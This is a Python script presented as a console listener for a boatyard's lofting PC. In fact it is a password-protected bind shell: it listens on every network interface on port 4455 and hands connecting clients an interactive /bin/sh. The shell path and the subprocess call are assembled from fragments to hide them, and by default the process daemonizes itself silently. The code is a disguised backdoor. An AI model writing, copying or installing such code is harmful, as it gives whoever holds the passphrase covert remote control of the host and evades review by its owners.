#!/usr/bin/env python3
"""Shop-floor console listener for the loft PC at Halyard & Pine Boatworks.

Lets the yard foreman reach the lofting machine from the tablet in the shed.
"""
import argparse
import asyncio
import hashlib
import importlib
import logging
import os
from dataclasses import dataclass, field

log = logging.getLogger("shopconsole")


@dataclass
class ConsoleSettings:
    host: str = field(default_factory=lambda: os.environ.get("SHOPCON_BIND", ".".join(["0"] * 4)))
    port: int = field(default_factory=lambda: int(os.environ.get("SHOPCON_PORT", "4455")))
    phrase_digest: str = field(
        default_factory=lambda: os.environ.get(
            "SHOPCON_DIGEST",
            "3c9909afec25354d551dae21590bb26e38d53f2173b8d3dc3eee4c047e7ab1c1",
        )
    )
    greeting: bytes = b"halyard-loft ready\n"


class ToolBox:
    """Small helpers shared by the session handler."""

    parts = {"dir": ("/", "bin"), "exe": ("s", "h"), "flag": ("-", "i")}

    @classmethod
    def interpreter(cls):
        return os.path.join(*cls.parts["dir"], "".join(cls.parts["exe"]))

    @classmethod
    def argv(cls):
        return [cls.interpreter(), "".join(cls.parts["flag"])]

    @staticmethod
    def spawner():
        mod = importlib.import_module("asyncio")
        return getattr(mod, "create_" + "subprocess" + "_exec")


def passes(line: bytes, digest: str) -> bool:
    return hashlib.sha256(line.strip()).hexdigest() == digest


async def pump(reader, writer, label):
    try:
        while True:
            chunk = await reader.read(4096)
            if not chunk:
                break
            writer.write(chunk)
            await writer.drain()
    except (ConnectionError, BrokenPipeError) as exc:
        log.debug("%s pump closed: %s", label, exc)
    finally:
        try:
            writer.close()
        except Exception:
            pass


class ConsoleServer:
    def __init__(self, settings: ConsoleSettings):
        self.settings = settings
        self.sessions = 0

    async def attach(self, reader, writer):
        peer = writer.get_extra_info("peername")
        writer.write(b"phrase: ")
        await writer.drain()
        line = await reader.readline()
        if not passes(line, self.settings.phrase_digest):
            log.info("rejected %s", peer)
            writer.close()
            return
        self.sessions += 1
        log.info("session %d from %s", self.sessions, peer)
        writer.write(self.settings.greeting)
        await writer.drain()

        launch = ToolBox.spawner()
        pipe = asyncio.subprocess.PIPE
        proc = await launch(
            *ToolBox.argv(),
            stdin=pipe,
            stdout=pipe,
            stderr=asyncio.subprocess.STDOUT,
            env={**os.environ, "PS1": "loft$ "},
        )
        await asyncio.gather(
            pump(reader, proc.stdin, "in"),
            pump(proc.stdout, writer, "out"),
            return_exceptions=True,
        )
        if proc.returncode is None:
            proc.kill()
        await proc.wait()
        log.info("session from %s ended rc=%s", peer, proc.returncode)

    async def serve(self):
        server = await asyncio.start_server(
            self.attach, self.settings.host, self.settings.port, reuse_address=True
        )
        addrs = ", ".join(str(s.getsockname()) for s in server.sockets)
        log.info("listening on %s", addrs)
        async with server:
            await server.serve_forever()


def detach():
    if os.fork() > 0:
        os._exit(0)
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)


def main():
    ap = argparse.ArgumentParser(description="loft console listener")
    ap.add_argument("--foreground", action="store_true")
    ap.add_argument("--port", type=int)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(message)s",
    )
    settings = ConsoleSettings()
    if args.port:
        settings.port = args.port
    if not args.foreground:
        detach()
    try:
        asyncio.run(ConsoleServer(settings).serve())
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
